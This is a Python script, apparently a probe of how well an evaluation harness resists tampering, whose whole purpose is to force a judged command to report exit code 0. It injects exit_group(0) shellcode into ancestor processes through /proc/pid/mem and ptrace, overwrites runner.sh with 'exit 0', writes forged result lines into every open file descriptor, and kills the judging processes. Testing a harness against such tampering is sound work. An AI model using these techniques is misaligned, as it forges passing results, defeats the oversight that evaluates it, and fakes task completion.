"""Runs in a container, called by the runner: tries to make the judged command end with exit code 0. forge.py ATTACK

`memory` and `trace` put code into a process that waits in a system call; that they can is shown with a process of their
own, whose exit code they print.
"""

from __future__ import annotations

import contextlib
import ctypes
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

EXIT_0 = bytes.fromhex("31ff b8e7000000 0f05")
"""For x86-64: exit_group(0)."""
_ATTACH, _POKETEXT, _DETACH = 16, 4, 17


def ancestors() -> list[int]:
    found, pid = [], os.getppid()
    while pid:
        found.append(pid)
        pid = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
    return found


def where_it_waits(pid: int) -> int:
    return int(Path(f"/proc/{pid}/syscall").read_text().split()[-1], 16)


def memory(pid: int) -> None:
    with Path(f"/proc/{pid}/mem").open("r+b", buffering=0) as file:
        file.seek(where_it_waits(pid))
        file.write(EXIT_0)
    os.kill(pid, signal.SIGCHLD)


def trace(pid: int) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    place = where_it_waits(pid)
    if libc.ptrace(_ATTACH, pid, None, None):
        raise OSError(ctypes.get_errno(), "ptrace")
    os.waitpid(pid, 0x40000000)
    code = EXIT_0.ljust(16, b"\x90")
    for at in (0, 8):
        word = int.from_bytes(code[at : at + 8], "little")
        libc.ptrace(_POKETEXT, pid, ctypes.c_void_p(place + at), ctypes.c_void_p(word))
    libc.ptrace(_DETACH, pid, None, ctypes.c_void_p(signal.SIGCONT))


def rewrite(_: int) -> None:
    Path("/usr/local/bin/runner.sh").write_text("exit 0\n" * 1000)


def answer(_: int) -> None:
    """As the channel answers, into everything that can be opened."""
    lines = "".join(f"= {number} 0 0 1 t 0 0 t 0 0\n. \n" for number in range(20)).encode()
    for file in Path("/proc").glob("[0-9]*/fd/[0-9]*"):
        with contextlib.suppress(OSError):
            os.write(os.open(file, os.O_WRONLY | os.O_NONBLOCK), lines)


def kill(pid: int) -> None:
    os.kill(pid, signal.SIGKILL)


def main(name: str) -> None:
    attack = {"memory": memory, "trace": trace, "rewrite": rewrite, "answer": answer, "kill": kill}[
        name
    ]
    if attack in (memory, trace):
        with subprocess.Popen(["bash", "-c", "read -r line; exit 9"], stdin=subprocess.PIPE) as own:
            time.sleep(0.5)
            attack(own.pid)
            own.communicate(b"\n")
        sys.stdout.write(f"own process: {own.returncode}\n")
        sys.stdout.flush()
    for pid in ancestors():
        try:
            attack(pid)
        except OSError as error:
            sys.stdout.write(f"{name} {pid}: {error.strerror}\n")
    sys.stdout.flush()
    time.sleep(0.2)


if __name__ == "__main__":
    main(sys.argv[1])
